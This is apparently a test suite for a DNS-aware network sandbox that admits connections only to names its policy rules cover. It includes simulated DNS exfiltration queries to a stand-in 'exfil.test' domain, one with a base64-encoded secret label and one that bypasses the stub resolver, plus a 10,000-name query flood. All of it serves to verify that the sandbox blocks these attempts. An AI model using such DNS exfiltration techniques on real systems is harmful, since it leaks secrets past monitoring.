// Names in policy on the real kernel (issue 14, tests 1–11): `gensee run
// --dns-upstream 127.0.0.1:AUTH` in front of a test authoritative server on
// loopback (test/dns/authority.ts); the workload resolves through the
// operation's stub with curl (glibc's resolver), or with test/dns/client.ts
// (dns-packet) where a test must see the rcode, force TCP or flood. Nothing
// leaves the machine: every server is on 127.0.0.1 or ::1.
//
// Which name a rule must cover: the QUESTION's name. The stub decides before
// anything is forwarded (a name no rule covers never reaches the upstream),
// so the CNAME chain an answer brings is recorded, not decided on: a rule
// for www.test admits www.test → CNAME → api.test, and a rule for api.test
// alone does not admit a question for an alias of it.
import t, { type Test } from 'tap';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as net from 'node:net';
import * as path from 'node:path';
import * as dnsPacket from 'dns-packet';
import { PACKAGE_ROOT } from '../../src/addon';
import { opDir } from '../../src/state/operation';
import { findCgroup2Mount, killCgroupAndWait, removeEmptyCgroup } from '../../src/cgroup';
import { detachHooks } from '../../src/dataplane';
import { requireKernel, uniqueName, freePort, tcpServer, waitFor, timeScaled, GENSEE_BIN, PROBE } from '../helpers/kernel';
import { shortStateDir, jsonlLines, type LogLine } from '../helpers/supervisor';
import { gensee, Proc } from '../helpers/gensee';
import { EVENTS_PER_SECOND } from '../../src/events/log';
import { startAuthority, type Authority, type Zone } from './authority';

const CLIENT = path.join(PACKAGE_ROOT, 'dist', 'test', 'dns', 'client.js');
const NODE = process.execPath;

interface T {
  teardown(fn: () => unknown): void;
  fail(msg: string): void;
  end(): void;
}

const A = (name: string, data: string, ttl = 300): dnsPacket.Answer => ({ type: 'A', name, ttl, data });
const AAAA = (name: string, data: string, ttl = 300): dnsPacket.Answer => ({ type: 'AAAA', name, ttl, data });
const CNAME = (name: string, data: string, ttl = 300): dnsPacket.Answer => ({ type: 'CNAME', name, ttl, data });
const NXDOMAIN = 3;

/** An authority answering from a table NAME → records (NAME/TYPE first); anything else NXDOMAIN. */
async function authority(t: T, table: Record<string, dnsPacket.Answer[] | ((q: dnsPacket.Question, tr: 'udp' | 'tcp') => ReturnType<Zone>)>, o: { log?: boolean } = {}): Promise<Authority> {
  const a = await startAuthority((q, tr) => {
    const e = table[`${q.name}/${q.type}`] ?? table[q.name];
    if (typeof e === 'function') return e(q, tr);
    if (!e) return { rcode: NXDOMAIN };
    return { answers: e.filter((r) => r.type === q.type || r.type === 'CNAME') };
  }, o);
  t.teardown(() => a.close());
  return a;
}

/** An HTTP listener on host counting requests; closed at teardown. */
async function httpServer(t: T, host = '127.0.0.1'): Promise<{ port: number; hits: () => number }> {
  let hits = 0;
  const srv = http.createServer((req, res) => {
    hits++;
    res.end('ok\n');
  });
  await new Promise<void>((r) => srv.listen(0, host, () => r()));
  t.teardown(() => {
    srv.closeAllConnections();
    return new Promise<void>((r) => srv.close(() => r()));
  });
  return { port: (srv.address() as net.AddressInfo).port, hits: () => hits };
}

interface Ran {
  code: number | null;
  stdout: string;
  stderr: string;
  dir: string;
  op: string;
  st: string;
  proc: Proc;
  faults: LogLine[];
  events: LogLine[];
  counters: LogLine[];
  summary: Record<string, unknown> & { fast_path: number; paused: number; destinations: { destination: string; verdict: string; count: number }[] };
  /** the workload's own stdout lines that are JSON (client.js; gs-probe's results, not its pid line) */
  out: Record<string, unknown>[];
}

// the default 5 s fault deadline, stretched with the machine (make vmtest's emulated 6.1):
// a paused call is answered by the resolver, never by its deadline
const DEFAULT_POLICY = { schema: 1, grants: [], leases: [], delegate: [], fault_deadline_ms: Math.min(60_000, timeScaled(5000)) };

/** `gensee run --json-out FILE --dns-upstream UP --policy POLICY -- CMD`, as its own process; the logs read back after it exits. */
function startRun(t: T, prefix: string, policy: object, upstream: string, cmd: string[]): { proc: Proc; op: string; st: string; dir: string } {
  const st = shortStateDir(t);
  const op = uniqueName(prefix);
  const file = path.join(st, 'policy.json');
  fs.writeFileSync(file, JSON.stringify({ ...DEFAULT_POLICY, ...policy }));
  const proc = new Proc(GENSEE_BIN, ['run', '--state-dir', st, '--op', op, '--policy', file, '--json-out', path.join(st, 'run.jsonl'), '--dns-upstream', upstream, '--', ...cmd]);
  t.teardown(async () => {
    if (!proc.running) return;
    // killed mid-way (the test failed or timed out): gensee run leaves its
    // hooks pinned, failing closed; the workload dies first, then they come off
    await proc.end();
    const cg = path.join(findCgroup2Mount(), 'gensee', op);
    await killCgroupAndWait(cg).catch(() => undefined);
    try {
      detachHooks(op);
    } catch {
      /* never attached */
    }
    try {
      removeEmptyCgroup(cg);
    } catch {
      /* left for the operator: not empty */
    }
  });
  return { proc, op, st, dir: opDir(st, op) };
}

async function finish(r: { proc: Proc; op: string; st: string; dir: string }): Promise<Ran> {
  const ex = await r.proc.exited;
  const lines = r.proc.json();
  const summary = jsonlLines(path.join(r.st, 'run.jsonl')).find((l) => l.event === 'summary') as unknown as Ran['summary'];
  return {
    ...r,
    code: ex.code,
    stdout: r.proc.stdout,
    stderr: r.proc.stderr,
    faults: jsonlLines(path.join(r.dir, 'faults.jsonl')),
    events: jsonlLines(path.join(r.dir, 'events.jsonl')),
    counters: jsonlLines(path.join(r.dir, 'counters.jsonl')),
    summary,
    out: lines.filter((l) => !('event' in l) && !('pid' in l && Object.keys(l).length === 1)),
  };
}

async function runOp(t: T, prefix: string, policy: object, upstream: string, cmd: string[]): Promise<Ran> {
  return finish(startRun(t, prefix, policy, upstream, cmd));
}

/** sh -c SCRIPT inside the workload */
const sh = (script: string): string[] => ['/bin/sh', '-c', script];
/** a curl that prints "HTTP <code> rc=<exit>" and never waits long (5 s, scaled with the machine) */
const curl = (url: string, flags = ''): string => `curl ${flags} -sS -m ${Math.ceil(timeScaled(5000) / 1000)} -o /dev/null -w 'HTTP %{http_code}' '${url}'; echo " rc=$?"`;
const client = (...args: string[]): string => [NODE, CLIENT, ...args].map((a) => `'${a}'`).join(' ');

/** seccomp faults (pause layer) for a destination */
function pauseFaults(r: Ran, address: string, port: number): LogLine[] {
  return r.faults.filter((l) => {
    if (l.kind !== 'fault') return false;
    const f = l.fault as { source?: string; effect?: { network?: { address: string; port: number } } };
    return f.source === 'seccomp_notify' && f.effect?.network?.address === address && f.effect.network.port === port;
  });
}

const ofKind = (r: Ran, kind: string, name?: string): LogLine[] => r.faults.filter((l) => l.kind === kind && (name === undefined || l.name === name));
/** the dns_answer lines for name that gave addresses (every forwarded question is a dns_answer: curl's empty AAAA too) */
const answered = (r: Ran, name: string): LogLine[] => ofKind(r, 'dns_answer', name).filter((l) => (l.addresses as unknown[]).length > 0);
type Lease = { family: string; protocol: string; address: string; port: number; expires_at_boot_ns: string; generation: number };
const dnsDenied = (r: Ran): { kind: string; control: string; detail: string; target?: string }[] =>
  r.events.filter((l) => l.type === 'boundary' && (l.event as { kind: string }).kind === 'dns_denied').map((l) => l.event as { kind: string; control: string; detail: string; target?: string });

async function verified(t: Test, r: Ran): Promise<void> {
  const v = await gensee(['verify', '--op', r.op, '--state-dir', r.st]);
  t.equal(v.code, 0, `gensee verify passes ${v.stdout}${v.stderr}`);
}

/** CLOCK_BOOTTIME now, in ns (/proc/uptime counts time in suspend, as BOOTTIME does) */
function bootNsNow(): bigint {
  const s = fs.readFileSync('/proc/uptime', 'utf8').split(' ')[0];
  const [sec, frac = '0'] = s.split('.');
  return BigInt(sec) * 1_000_000_000n + BigInt(frac.padEnd(9, '0').slice(0, 9));
}

function vmRssKiB(pid: number): number | null {
  try {
    const m = /^VmRSS:\s+(\d+) kB/m.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'));
    return m ? Number(m[1]) : null;
  } catch {
    return null;
  }
}

const up = (a: Authority): string => `127.0.0.1:${a.port}`;
const hostRule = (host: string, port: number | string, ttl_s = 60) => ({ network: { protocol: 'tcp', host, ...(typeof port === 'number' ? { port } : { ports: port }) }, ttl_s });

t.test('1. an exact name: the lease is in the kernel before the answer, the first connect takes the fast path', async (t) => {
  if (!requireKernel(t)) return;
  const srv = await httpServer(t);
  const auth = await authority(t, { 'api.test': [A('api.test', '127.0.0.1')] });
  const r = await runOp(t, 'gs-dn1', { leases: [hostRule('api.test', srv.port)] }, up(auth), sh(curl(`http://api.test:${srv.port}/`)));
  t.equal(r.code, 0, r.stderr);
  t.match(r.stdout, /HTTP 200 rc=0/, 'curl reached api.test by its name');
  t.equal(srv.hits(), 1, 'one request reached the listener');
  t.same(pauseFaults(r, '127.0.0.1', srv.port), [], 'no pause fault for the leased tuple: its first connect found the lease');
  const q = ofKind(r, 'dns_query', 'api.test').filter((l) => l.qtype === 'A');
  t.equal(q.length, 1, 'one dns_query line for the name (A)');
  const aaaa = ofKind(r, 'dns_query', 'api.test').find((l) => l.qtype === 'AAAA');
  t.match(r.faults.find((l) => l.kind === 'dns_answer' && l.fault_id === aaaa?.fault_id), { rcode: 'NOERROR', addresses: [], leases: [] }, "curl's AAAA question, answered empty, is recorded too");
  const fid = q[0]?.fault_id;
  const intent = r.faults.filter((l) => l.kind === 'lease_intent' && l.fault_id === fid);
  const ans = r.faults.filter((l) => l.kind === 'dns_answer' && l.fault_id === fid);
  t.equal(intent.length, 1, 'one lease_intent: one address × one port');
  t.equal(ans.length, 1, 'one dns_answer');
  t.ok(q[0].seq < intent[0].seq && intent[0].seq < ans[0].seq, 'dns_query, lease_intent, dns_answer, in that order');
  t.match(q[0], { qtype: 'A', rule: `leases/0 tcp api.test ${srv.port}` }, 'the question and the rule that covered it');
  t.match(ans[0], { name: 'api.test', chain: [], addresses: [{ family: 'ipv4', address: '127.0.0.1', ttl: 300 }] }, 'the answer: name, empty chain, the address');
  const lease = (ans[0].leases as Lease[])[0];
  t.match(lease, { family: 'ipv4', protocol: 'tcp', address: '127.0.0.1', port: srv.port }, 'the exact lease');
  t.match(intent[0].lease, { ttl_s: 60 }, "TTL = min(rule 60 s, record 300 s + 5 s) = 60 s");
  const allowed = r.counters.filter((l) => l.kind === 'allow' && l.address === '127.0.0.1' && l.port === srv.port);
  t.equal(allowed.reduce((s, l) => s + (l.delta as number), 0), 1, 'the hook allowed the connect once');
  t.equal(allowed[0]?.generation, lease.generation, "under the lease's generation");
  t.ok(r.summary.fast_path >= 1, `the summary counts fast-path calls (${r.summary.fast_path})`);
  t.equal(r.summary.paused, r.faults.filter((l) => l.kind === 'fault').length, 'every paused call is a fault line, none of them the connect');
  t.ok(r.summary.destinations.some((d) => d.destination === `tcp 127.0.0.1:${srv.port}` && d.verdict === 'allow' && d.count === 1), 'the summary counts one allowed connect');
  await verified(t, r);
});

t.test('2. a wildcard covers one or more labels, never its apex', async (t) => {
  if (!requireKernel(t)) return;
  const srv = await httpServer(t);
  const auth = await authority(t, {
    'a.svc.test': [A('a.svc.test', '127.0.0.1')],
    'a.b.svc.test': [A('a.b.svc.test', '127.0.0.1')],
    'svc.test': [A('svc.test', '127.0.0.1')],
  });
  const r = await runOp(
    t,
    'gs-dn2',
    { leases: [hostRule('*.svc.test', srv.port)] },
    up(auth),
    sh([curl(`http://a.svc.test:${srv.port}/`), curl(`http://a.b.svc.test:${srv.port}/`), curl(`http://svc.test:${srv.port}/`), client('ask', 'svc.test/A')].join('; ')),
  );
  t.equal(r.code, 0, r.stderr);
  const codes = r.stdout.match(/HTTP \d+ rc=\d+/g);
  t.same(codes, ['HTTP 200 rc=0', 'HTTP 200 rc=0', 'HTTP 000 rc=6'], 'a.svc.test and a.b.svc.test connect; svc.test does not resolve');
  t.equal(srv.hits(), 2, 'two requests reached the listener');
  t.match(r.out, [{ name: 'svc.test', rcode: 'REFUSED', answers: [] }], 'the apex is answered REFUSED');
  t.equal(answered(r, 'a.svc.test').length, 1, 'a.svc.test answered under the rule');
  t.equal(answered(r, 'a.b.svc.test').length, 1, 'a.b.svc.test answered under the rule');
  t.ok(ofKind(r, 'dns_refused', 'svc.test').every((l) => l.rcode === 'REFUSED' && l.control === 'dns/no_rule'), 'svc.test: dns_refused, dns/no_rule');
  t.notOk(auth.seen.some((s) => s.name === 'svc.test'), 'the refused name never reached the upstream');
  t.ok(dnsDenied(r).some((e) => e.target === 'svc.test' && e.control === 'dns/no_rule'), 'a dns_denied event for it');
  await verified(t, r);
});

t.test('3. a CNAME chain: the rule covers the question, the chain is recorded', async (t) => {
  if (!requireKernel(t)) return;
  const srv = await httpServer(t);
  const chain = [CNAME('www.test', 'edge.cdn.test'), CNAME('edge.cdn.test', 'api.test'), A('api.test', '127.0.0.1')];
  const auth = await authority(t, { 'www.test': chain, 'alias.test': [CNAME('alias.test', 'api.test'), A('api.test', '127.0.0.1')], 'api.test': [A('api.test', '127.0.0.1')] });
  const r = await runOp(
    t,
    'gs-dn3',
    // www.test by its own name; api.test on another port: it does not admit alias.test, a name that CNAMEs into it
    { leases: [hostRule('www.test', srv.port), hostRule('api.test', 1)] },
    up(auth),
    sh([curl(`http://www.test:${srv.port}/`), client('ask', 'alias.test/A')].join('; ')),
  );
  t.equal(r.code, 0, r.stderr);
  t.match(r.stdout, /HTTP 200 rc=0/, 'curl reached www.test through the chain');
  t.equal(srv.hits(), 1);
  t.same(pauseFaults(r, '127.0.0.1', srv.port), [], 'the first connect took the fast path');
  const ans = answered(r, 'www.test');
  t.equal(ans.length, 1, 'one dns_answer with addresses for www.test');
  t.same(ans[0]?.chain, ['edge.cdn.test', 'api.test'], 'faults.jsonl records the chain');
  t.match(ans[0], { addresses: [{ family: 'ipv4', address: '127.0.0.1' }], leases: [{ address: '127.0.0.1', port: srv.port }] }, "the chain's address, leased on www.test's port");
  t.match(r.out, [{ name: 'alias.test', rcode: 'REFUSED' }], 'an alias of an allowed name is not allowed by it: the question is decided');
  t.notOk(auth.seen.some((s) => s.name === 'alias.test'), 'and never forwarded');
  await verified(t, r);
});

t.test("4. a record TTL shorter than the rule's: the lease expires at the record's TTL + 5 s", async (t) => {
  if (!requireKernel(t)) return;
  const srv = await httpServer(t);
  const auth = await authority(t, { 'ttl.test': [A('ttl.test', '127.0.0.1', 2)] });
  const bootBefore = bootNsNow();
  const wallBefore = Date.now();
  // the second connect goes to the address straight (no new question): only the expired lease could admit it
  const r = await runOp(t, 'gs-dn4', { leases: [hostRule('ttl.test', srv.port, 60)] }, up(auth), sh(`${curl(`http://ttl.test:${srv.port}/`)}; sleep 8; '${PROBE}' connect tcp 127.0.0.1 ${srv.port}`));
  t.equal(r.code, 0, r.stderr);
  t.match(r.stdout, /HTTP 200 rc=0/, 'the first connect, inside the TTL, works');
  t.match(r.out, [{ result: 'EACCES' }], 'the connect after the lease expired is denied');
  t.equal(srv.hits(), 1, 'only the first request reached the listener');
  const ans = answered(r, 'ttl.test')[0];
  const intent = r.faults.find((l) => l.kind === 'lease_intent' && l.fault_id === ans?.fault_id);
  t.match(intent?.lease, { ttl_s: 7 }, 'TTL = min(rule 60 s, record 2 s + 5 s) = 7 s');
  const expires = BigInt((ans.leases as Lease[])[0].expires_at_boot_ns);
  const answeredAt = bootBefore + BigInt(Date.parse(ans.at as string) - wallBefore) * 1_000_000n;
  const off = Number(expires - answeredAt - 7_000_000_000n) / 1e6;
  t.ok(Math.abs(off) < 500, `expires_at_boot_ns ≈ answer time + 7 s (off by ${off.toFixed(0)} ms)`);
  const denied = r.faults.filter((l) => l.kind === 'resolution' && (l.resolution as { action: string; reason: string }).action === 'deny');
  t.equal(denied.length, 1, 'one denial');
  t.equal((denied[0]?.resolution as { reason: string }).reason, 'policy_denied', 'policy_denied: no rule covers the bare address');
  await verified(t, r);
});

t.test("5. an answered address on a port the rule does not list: denied, nothing reaches that listener", async (t) => {
  if (!requireKernel(t)) return;
  const listed = await httpServer(t);
  const other = await tcpServer(t);
  const auth = await authority(t, { 'api.test': [A('api.test', '127.0.0.1')] });
  const r = await runOp(t, 'gs-dn5', { leases: [hostRule('api.test', listed.port)] }, up(auth), sh([curl(`http://api.test:${other.port}/`), curl(`http://api.test:${listed.port}/`)].join('; ')));
  t.equal(r.code, 0, r.stderr);
  t.same(r.stdout.match(/HTTP \d+ rc=\d+/g), ['HTTP 000 rc=7', 'HTTP 200 rc=0'], 'the unlisted port fails to connect; the listed one works');
  t.equal(other.accepted(), 0, 'no connection reached the unlisted port');
  t.equal(other.bytes(), 0, 'no byte');
  t.same(
    (answered(r, 'api.test')[0]?.leases as Lease[]).map((l) => l.port),
    [listed.port],
    "the answer leased the rule's port only",
  );
  const pf = pauseFaults(r, '127.0.0.1', other.port);
  t.ok(pf.length >= 1, 'the unlisted port was a fault');
  const res = r.faults.find((l) => l.kind === 'resolution' && l.fault_id === pf[0]?.fault_id);
  t.match(res?.resolution, { action: 'deny', reason: 'policy_denied' });
  await verified(t, r);
});

t.test('6. a connect straight to an address no name answered: denied', async (t) => {
  if (!requireKernel(t)) return;
  const srv = await tcpServer(t);
  const auth = await authority(t, { 'api.test': [A('api.test', '127.0.0.1')] });
  const r = await runOp(t, 'gs-dn6', { leases: [hostRule('api.test', srv.port)] }, up(auth), [PROBE, 'connect', 'tcp', '127.0.0.1', String(srv.port)]);
  t.equal(r.code, 0, r.stderr);
  t.match(r.out, [{ result: 'EACCES' }], 'the host rule grants nothing to an address by itself');
  t.equal(srv.accepted(), 0, 'nothing reached the listener');
  t.equal(auth.count, 0, 'no question was asked');
  t.same(ofKind(r, 'lease_intent'), [], 'nothing leased');
  await verified(t, r);
});

t.test('7. a name no rule covers: REFUSED, never forwarded, a dns_denied event naming the registered domain only', async (t) => {
  if (!requireKernel(t)) return;
  const auth = await authority(t, { 'api.test': [A('api.test', '127.0.0.1')] });
  const secret = 'x9f3k2q8z7';
  const name = `${secret}.exfil.test`;
  const r = await runOp(t, 'gs-dn7', { leases: [hostRule('api.test', 443)] }, up(auth), sh(`${client('ask', `${name}/A`, `${name}/TXT/tcp`)}; ${curl(`http://${name}/`)}`));
  t.equal(r.code, 0, r.stderr);
  t.match(r.out, [{ name, rcode: 'REFUSED', answers: [] }, { name, transport: 'tcp', rcode: 'REFUSED' }], 'REFUSED over UDP and over TCP');
  t.match(r.stdout, /HTTP 000 rc=6/, 'curl cannot resolve it');
  t.equal(auth.count, 0, 'nothing was forwarded');
  const ev = dnsDenied(r);
  t.ok(ev.length >= 2, `dns_denied events (${ev.length})`);
  const odd = ev.filter((e) => !(e.control === 'dns/no_rule' && e.target === 'exfil.test' && /under exfil\.test/.test(e.detail)));
  t.same(odd, [], 'control dns/no_rule, the registered domain as target and in detail');
  t.notOk(fs.readFileSync(path.join(r.dir, 'events.jsonl'), 'utf8').includes(secret), 'the unique label is nowhere in events.jsonl');
  t.ok(ofKind(r, 'dns_refused', name).length >= 2, 'faults.jsonl (the operator-only evidence) records the full name');
  t.same(ofKind(r, 'lease_intent'), [], 'nothing leased');
  await verified(t, r);
});

t.test('a query straight to the upstream, around the stub (UDP and TCP): denied, nothing reaches it', async (t) => {
  if (!requireKernel(t)) return;
  const auth = await authority(t, { 'api.test': [A('api.test', '127.0.0.1')] });
  // a workload that knows the upstream tries to use it as its own resolver
  // (or as a channel out): the long unique label is the payload
  const name = 'c2VjcmV0LXRva2Vu.exfil.test';
  const r = await runOp(t, 'gs-dnb', { leases: [hostRule('api.test', 443)] }, up(auth), sh(client('--server', up(auth), 'ask', `${name}/A`, `${name}/TXT/tcp`)));
  t.equal(r.code, 0, r.stderr);
  t.match(r.out, [{ name, rcode: 'TIMEOUT' }, { name, transport: 'tcp', rcode: 'TIMEOUT' }], 'no answer either way');
  t.equal(auth.count, 0, 'not one question reached the upstream');
  const denied = r.events.filter((l) => l.type === 'boundary' && (l.event as { target?: string }).target === up(auth));
  t.ok(denied.length >= 2 && denied.every((l) => (l.event as { kind: string }).kind === 'fault_denied'), 'each attempt is a fault_denied event naming the upstream');
  t.same(ofKind(r, 'lease_intent'), [], 'nothing leased');
  await verified(t, r);
});

t.test('8. the DNS budget spent: REFUSED with control dns/budget, dns_names counted', async (t) => {
  if (!requireKernel(t)) return;
  const auth = await authority(t, Object.fromEntries([1, 2, 3, 4].map((i) => [`n${i}.b.test`, [A(`n${i}.b.test`, '127.0.0.1')]])));
  const r = await runOp(t, 'gs-dn8', { leases: [hostRule('*.b.test', 443)], dns_budget: 3 }, up(auth), sh(client('ask', 'n1.b.test/A', 'n2.b.test/A', 'n3.b.test/A', 'n4.b.test/A', 'n1.b.test/A')));
  t.equal(r.code, 0, r.stderr);
  t.same(r.out.map((o) => `${o.name} ${o.rcode}`), ['n1.b.test NOERROR', 'n2.b.test NOERROR', 'n3.b.test NOERROR', 'n4.b.test REFUSED', 'n1.b.test REFUSED'], 'three names, then every query refused (a name already seen too)');
  t.same(auth.seen.map((s) => s.name), ['n1.b.test', 'n2.b.test', 'n3.b.test'], 'past the budget nothing is forwarded');
  const refused = ofKind(r, 'dns_refused');
  t.equal(refused.length, 2);
  t.ok(refused.every((l) => l.rcode === 'REFUSED' && l.control === 'dns/budget'), 'dns_refused lines with control dns/budget');
  t.ok(dnsDenied(r).length === 2 && dnsDenied(r).every((e) => e.control === 'dns/budget'), 'dns_denied events with control dns/budget');
  const names = r.counters.filter((l) => l.kind === 'dns_names');
  t.equal(names.reduce((s, l) => s + (l.delta as number), 0), 3, 'counters.jsonl: dns_names deltas add up to 3');
  t.equal(names[names.length - 1]?.total, 3, 'dns_names total 3');
  await verified(t, r);
});

t.test('9. the upstream down: SERVFAIL, a dns_refused line, nothing leased', async (t) => {
  if (!requireKernel(t)) return;
  const closed = await freePort();
  const r = await runOp(t, 'gs-dn9', { leases: [hostRule('down.test', 443)] }, `127.0.0.1:${closed}`, sh(client('ask', 'down.test/A', 'down.test/A/tcp')));
  t.equal(r.code, 0, r.stderr);
  t.match(r.out, [{ name: 'down.test', rcode: 'SERVFAIL' }, { name: 'down.test', transport: 'tcp', rcode: 'SERVFAIL' }], 'SERVFAIL over UDP and TCP');
  const refused = ofKind(r, 'dns_refused', 'down.test');
  t.equal(refused.length, 2, 'one dns_refused line per question');
  t.ok(refused.every((l) => l.rcode === 'SERVFAIL' && l.control === 'dns/upstream'), 'rcode SERVFAIL, control dns/upstream');
  t.same(ofKind(r, 'lease_intent'), [], 'no lease_intent');
  t.same(ofKind(r, 'dns_answer'), [], 'no dns_answer');
  t.same(dnsDenied(r), [], 'an upstream failure is not a refusal by policy: no dns_denied');
  await verified(t, r);
});

t.test('10. IPv6: an AAAA answer ::1, leased and connected with curl -6', async (t) => {
  if (!requireKernel(t)) return;
  const srv = await httpServer(t, '::1');
  const auth = await authority(t, { 'v6.test/AAAA': [AAAA('v6.test', '::1')], 'v6.test/A': () => ({ answers: [] }) });
  const r = await runOp(t, 'gs-dn10', { leases: [hostRule('v6.test', srv.port)] }, up(auth), sh(curl(`http://v6.test:${srv.port}/`, '-6')));
  t.equal(r.code, 0, r.stderr);
  t.match(r.stdout, /HTTP 200 rc=0/, 'curl -6 reached v6.test');
  t.equal(srv.hits(), 1);
  t.same(pauseFaults(r, '::1', srv.port), [], 'the first connect took the fast path');
  const ans = answered(r, 'v6.test');
  t.equal(ans.length, 1, 'one answer with an address (the empty A answer leases nothing)');
  t.match(ofKind(r, 'dns_answer', 'v6.test').filter((l) => (l.addresses as unknown[]).length === 0), [{ rcode: 'NOERROR', leases: [] }], 'the empty A answer is recorded');
  t.match(ans[0], { addresses: [{ family: 'ipv6', address: '::1' }], leases: [{ family: 'ipv6', protocol: 'tcp', address: '::1', port: srv.port }] });
  t.ok(r.summary.destinations.some((d) => d.destination === `tcp [::1]:${srv.port}` && d.verdict === 'allow' && d.count === 1), 'the summary counts one allowed connect to [::1]');
  await verified(t, r);
});

t.test("TCP DNS: the upstream's transport is the operator's, a truncated answer is passed on, never retried over TCP", async (t) => {
  if (!requireKernel(t)) return;
  const srv = await tcpServer(t);
  const auth = await authority(t, {
    'tcp.test': [A('tcp.test', '127.0.0.1')],
    'big.test': (q) => ({ answers: [A(q.name, '127.0.0.1')], tcOverUdp: true }),
  });
  const policy = { leases: [hostRule('tcp.test', srv.port), hostRule('big.test', srv.port)] };
  // a UDP upstream (the default): every question goes over UDP, whatever the client used
  const r = await runOp(t, 'gs-dnt', policy, up(auth), sh(`${client('ask', 'tcp.test/A/tcp', 'big.test/A')} && '${PROBE}' connect tcp 127.0.0.1 ${srv.port}`));
  t.equal(r.code, 0, r.stderr);
  t.match(r.out[0], { name: 'tcp.test', transport: 'tcp', rcode: 'NOERROR', answers: [{ type: 'A', data: '127.0.0.1' }] }, 'a question over TCP is answered over TCP');
  t.match(r.out[1], { name: 'big.test', transport: 'udp', rcode: 'NOERROR', tc: true, answers: [] }, 'the truncated answer reached the client truncated');
  t.same(auth.seen.filter((s) => s.name === 'tcp.test').map((s) => s.transport), ['udp'], 'the TCP question went upstream over UDP');
  t.same(auth.seen.filter((s) => s.name === 'big.test').map((s) => s.transport), ['udp'], 'TC over UDP: no TCP retry');
  t.equal(ofKind(r, 'dns_answer', 'tcp.test').length, 1, 'tcp.test leased');
  t.match(ofKind(r, 'dns_answer', 'big.test'), [{ truncated: true, leases: [] }], 'big.test recorded, truncated, nothing leased');
  t.match(r.out[2], { result: 'ok' }, 'the connect works');
  t.same(pauseFaults(r, '127.0.0.1', srv.port), [], 'on the fast path');
  await verified(t, r);

  // a TCP upstream (--dns-upstream tcp:ADDR:PORT): every question over TCP, the whole answer
  const n = auth.seen.length;
  const r2 = await runOp(t, 'gs-dnt2', policy, `tcp:${up(auth)}`, sh(`${client('ask', 'big.test/A')} && '${PROBE}' connect tcp 127.0.0.1 ${srv.port}`));
  t.equal(r2.code, 0, r2.stderr);
  t.match(r2.out[0], { name: 'big.test', transport: 'udp', rcode: 'NOERROR', tc: false, answers: [{ type: 'A', data: '127.0.0.1' }] }, 'asked over UDP, answered whole');
  t.same(auth.seen.slice(n).map((s) => s.transport), ['tcp'], 'the upstream asked over TCP only');
  t.equal(ofKind(r2, 'dns_answer', 'big.test').length, 1, 'big.test leased');
  t.match(r2.out[1], { result: 'ok' }, 'the connect works');
  await verified(t, r2);
});

t.test('11. a flood of 10,000 names: the stub stays bounded, the budget refuses past it, another operation resolves', async (t) => {
  if (!requireKernel(t)) return;
  const N = 10_000;
  const BUDGET = 1000;
  const auth = await authority(
    t,
    new Proxy({} as Record<string, dnsPacket.Answer[]>, {
      get: (_o, name: string) => (/\.(flood|calm)\.test\/A$/.test(name) ? [A(name.slice(0, -2), '127.0.0.1')] : undefined),
    }),
    { log: false },
  );
  const srv = await tcpServer(t);
  // the other operation first: a question every 0.4 s for 5 s; the flood starts once it has its first answer
  const calmNames = Array.from({ length: 12 }, (_x, i) => `c${i + 1}.calm.test`);
  const calm = startRun(t, 'gs-dnc', { leases: [hostRule('*.calm.test', srv.port)] }, up(auth), sh(calmNames.map((n) => `${client('ask', `${n}/A`)}; sleep 0.4`).join('; ')));
  await waitFor(() => jsonlLines(path.join(calm.dir, 'faults.jsonl')).some((l) => l.kind === 'dns_answer') || !calm.proc.running, 20_000);
  const flood = startRun(t, 'gs-dnf', { leases: [hostRule('*.flood.test', srv.port)], dns_budget: BUDGET }, up(auth), sh(client('flood', 'f', '.flood.test', String(N), '256')));
  // RSS of the flooded operation's supervisor (the gensee run process: the stub is in it)
  let base = 0;
  let peak = 0;
  const sampler = setInterval(() => {
    const k = vmRssKiB(flood.proc.pid);
    if (k === null) return;
    if (base === 0) base = k;
    peak = Math.max(peak, k);
  }, 50);
  t.teardown(() => clearInterval(sampler));
  const f = await finish(flood);
  clearInterval(sampler);
  const c = await finish(calm);
  t.equal(f.code, 0, f.stderr);
  t.equal(c.code, 0, c.stderr);
  const res = f.out[0] as { sent: number; rcodes: Record<string, number>; timeouts: number; ms: number };
  t.comment(`flood: ${JSON.stringify(res)}; supervisor RSS ${Math.round(base / 1024)} MiB at start, peak ${Math.round(peak / 1024)} MiB`);
  const rc = (k: string): number => res.rcodes[k] ?? 0;
  t.equal(rc('NOERROR') + rc('REFUSED') + rc('SERVFAIL') + res.timeouts, N, 'NOERROR, REFUSED, SERVFAIL (overload) or no answer, nothing else');
  // a datagram the kernel drops at the stub's full socket buffer is never seen
  // (the client does not retry): bounded by the buffer, not by the flood
  t.ok(res.timeouts < N / 10, `at most a tenth unanswered (dropped at the stub's socket buffer): ${res.timeouts}`);
  t.ok(rc('NOERROR') <= BUDGET, 'no more answers than the budget');
  t.ok(rc('REFUSED') >= N - BUDGET - res.timeouts - rc('SERVFAIL'), 'every name past the budget that reached the stub was REFUSED');
  // past the refusal budget (200 a second) a refusal is counted in a suppressed line, by its control
  const budgetRefusals =
    f.faults.filter((l) => l.kind === 'dns_refused' && l.control === 'dns/budget').length +
    f.faults.filter((l) => l.kind === 'suppressed').reduce((n, l) => n + Number((l.reasons as Record<string, number> | undefined)?.['dns/budget'] ?? 0), 0);
  // (an answer can also be dropped at the client's own socket buffer: a refusal recorded, not received)
  t.ok(budgetRefusals >= rc('REFUSED') && budgetRefusals <= rc('REFUSED') + res.timeouts, `each refusal is a dns_refused line, dns/budget (${budgetRefusals})`);
  t.ok(ofKind(f, 'dns_answer').length <= BUDGET, 'at most budget answers leased');
  const names = f.counters.filter((l) => l.kind === 'dns_names');
  t.equal(names[names.length - 1]?.total, BUDGET, 'dns_names stops at the budget');
  t.ok(peak > 0 && peak < 512 * 1024, `the supervisor's RSS stayed under 512 MiB (peak ${Math.round(peak / 1024)} MiB)`);
  t.ok(peak - base < 200 * 1024, `and grew by less than 200 MiB (${Math.round((peak - base) / 1024)} MiB)`);
  // the gate admits EVENTS_PER_SECOND boundary lines a second and folds the
  // rest into one suppressed line; under emulation (make vmtest) the flood
  // can be slower than that, and then there is nothing to cut
  const boundary = f.events.filter((l) => l.type === 'boundary');
  const perSecond = new Map<string, number>();
  for (const l of boundary) {
    const s = String((l.event as LogLine | undefined)?.at ?? l.at).slice(0, 19);
    perSecond.set(s, (perSecond.get(s) ?? 0) + 1);
  }
  const busiest = Math.max(0, ...perSecond.values());
